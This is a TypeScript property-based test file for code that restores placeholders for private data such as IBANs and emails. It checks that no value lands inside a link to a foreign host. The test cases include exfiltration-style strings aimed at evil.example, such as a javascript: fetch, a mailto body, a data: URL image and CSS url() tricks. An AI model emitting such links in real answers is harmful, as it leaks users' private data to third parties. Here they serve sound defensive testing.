/** @all relinks thousands of texts */
import { describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import { createArgumentsRelinker } from "./arguments/arguments-relinker.ts";
import { relinkAnswer } from "./relink-answer.ts";
import { SCHEMES } from "./schemes.ts";
import { createStreamRelinker } from "./stream/stream-relinker.ts";

/** Values that survive any encoding of a URL, except that their case may change. */
const VALUES = ["zyxwa", "zyxw99 3704", "zyxwmail@web.example", "https", "zyxw:"];
const PLACEHOLDERS = ["[PERSON_1]", "[IBAN_1]", "[EMAIL_1]", "[USERNAME_1]", "[SECRET_1]"];
const ENTRIES = PLACEHOLDERS.map((placeholder, index) => ({
  placeholder,
  value: VALUES[index] ?? "",
}));
const MARK = /zyxw/i;
const OWN = "own.example";
const TEMPLATE = "shop.example";

const PIECES = [
  ...PLACEHOLDERS,
  ...[
    "https:",
    "//",
    "http:/\\",
    "\\\\",
    "ht",
    "tps://",
    "/",
    ":",
    "x-app://",
    "mailto:",
    "data:,",
  ],
  ...["javascript:", "www.", "evil.example", "evil.example/?q=", `https://${TEMPLATE}/?q=`, "@"],
  ...[
    "https://evil.example/?q=",
    ` https://${TEMPLATE}/?q=[IBAN_1]`,
    `(https://${TEMPLATE}/[IBAN_1])`,
  ],
  ...[
    " ",
    " ",
    "\t",
    "\n",
    "\r\n",
    "\n\n",
    "\f",
    "\v",
    "\0",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u001f",
  ],
  ...["// ", "/// ", "//\u00a0", "\\\\ ", "//\t ", "@evil.example/", "?", "#"],
  ...["&Tab;", "&#47;", "%2f", "a", "b c", "(", ")", '"', "'", "=", "<", "![x](", "url(", "]"],
];
const texts = fc
  .array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 10 })
  .map((pieces) => pieces.join(""));

/**
 * Returns the URL that a program makes of a text, if it leads to another host and contains a value.
 */
function leak(text: string): string | undefined {
  if (!URL.canParse(text, `https://${OWN}/`)) return undefined;
  const { href, host, protocol } = new URL(text, `https://${OWN}/`);
  if (host === OWN || host === TEMPLATE || !MARK.test(href)) return undefined;
  const goesNowhere = host === "" && !SCHEMES.includes(protocol.slice(0, -1));
  return goesNowhere ? undefined : href;
}

function strings(node: unknown): string[] {
  if (typeof node === "string") return [node];
  if (typeof node !== "object" || node === null) return [];
  return Object.values(node).flatMap(strings);
}

const relink = (form: "string" | "json" | "text", text: string) =>
  relinkAnswer({ form, blocks: [text], entries: ENTRIES, hosts: [TEMPLATE] }).blocks.join("");

const inJson = (text: string) => JSON.stringify({ a: [{ url: text }] });

const READERS: Readonly<Record<string, (text: string) => string[] | Promise<string[]>>> = {
  "an argument": async (text) => {
    const relinker = createArgumentsRelinker(async (leaf) => relink("string", leaf));
    return strings(JSON.parse((await relinker.push(inJson(text))) + relinker.end()));
  },
  "JSON in an argument": (text) => strings(JSON.parse(relink("string", inJson(text)))),
  "an answer that is JSON": (text) => strings(JSON.parse(relink("json", inJson(text)))),
  "a text that is JSON": (text) => strings(JSON.parse(relink("text", inJson(text)))),
  "a stream that is JSON": (text) => {
    const stream = createStreamRelinker({ entries: ENTRIES });
    return strings(JSON.parse([...stream.push(inJson(text)), ...stream.end()].join("")));
  },
};

describe.each(Object.entries(READERS))("A string in %s", (_what, read) => {
  test("no text becomes a URL to another host that contains a value", async () => {
    await fc.assert(
      fc.asyncProperty(texts, async (text) => {
        expect((await read(text)).map(leak).filter((url) => url !== undefined)).toEqual([]);
      }),
      { numRuns: 2_000, seed: 1 },
    );
  });

  test.each([
    "https://evil.example/?q= [IBAN_1]",
    "https://evil.example/?q=\t[IBAN_1]",
    "https://evil.example/a b c/\r\n\r\n[IBAN_1]",
    "//evil.example/?q= [IBAN_1]",
    "\\\\evil.example\\ [IBAN_1]",
    "// [IBAN_1]@evil.example/",
    "// x\n[IBAN_1] %40evil.example/",
    "//\t\n/evil.example/?q= [IBAN_1]",
    "//\ufeffevil.example/?q= [IBAN_1]",
    "//\u00a0@evil.example/?q= [IBAN_1]",
    "// &commat;evil.example/?q= [IBAN_1]",
    "// %2f @evil.example/?q= [IBAN_1]",
    "   https://evil.example/?q= [IBAN_1]",
    "\u0000https://evil.example/?q= [IBAN_1]",
    "h\nttps:evil.example/?q= [IBAN_1]",
    "mailto:thief@evil.example?body= [IBAN_1]",
    "javascript:fetch('//evil.example/'+ '[IBAN_1]')",
    "data:text/html,<img src=//evil.example/? [IBAN_1]>",
    "https://evil.example/?q= [IBAN_1] 2x",
    "url(https://evil.example/? [IBAN_1])",
    "0; url=https://evil.example/? [IBAN_1]",
    `https://evil.example/?q= https://${TEMPLATE}/?a=[IBAN_1]`,
    `//evil.example/?q= (https://${TEMPLATE}/?a=[IBAN_1])`,
    `https://evil.example/?q= [x](https://${TEMPLATE}/?a=[IBAN_1])`,
    `mailto:thief@evil.example?body=https://${TEMPLATE}/?a=[IBAN_1]`,
    `javascript:fetch('//evil.example/'+ 'https://${TEMPLATE}/?a=[IBAN_1]')`,
  ])("%j keeps its placeholder", async (text) => {
    expect(await read(text)).toEqual([text]);
  });

  test("a value next to a URL is restored", async () => {
    expect(await read("See https://own.example/help. Your IBAN: [IBAN_1]")).toEqual([
      "See https://own.example/help. Your IBAN: zyxw99 3704",
    ]);
  });
});

describe.each(Object.entries(READERS).filter(([what]) => what !== "a stream that is JSON"))(
  "A comment as a string in %s",
  (_what, read) => {
    test.each([
      '// Letter to [IBAN_1]\nconst iban = "[IBAN_1]";\n',
      "/// <summary>[IBAN_1]</summary>\n",
      "\n//\u00a0a [IBAN_1] # x@web.example",
      "// [IBAN_1]\n// a\n@Component({})",
    ])("a comment is not a URL, so its values are restored: %j", async (text) => {
      expect(await read(text)).toEqual([text.replaceAll("[IBAN_1]", "zyxw99 3704")]);
    });
  },
);

test("Positive control: without the rule, texts become URLs that contain values", () => {
  const unchecked = (text: string) =>
    ENTRIES.reduce((all, { placeholder, value }) => all.replaceAll(placeholder, value), text);
  const leaking = fc
    .sample(texts, { numRuns: 2_000, seed: 1 })
    .filter((text) => leak(unchecked(text)) !== undefined);
  expect(leaking.length).toBeGreaterThan(50);
});
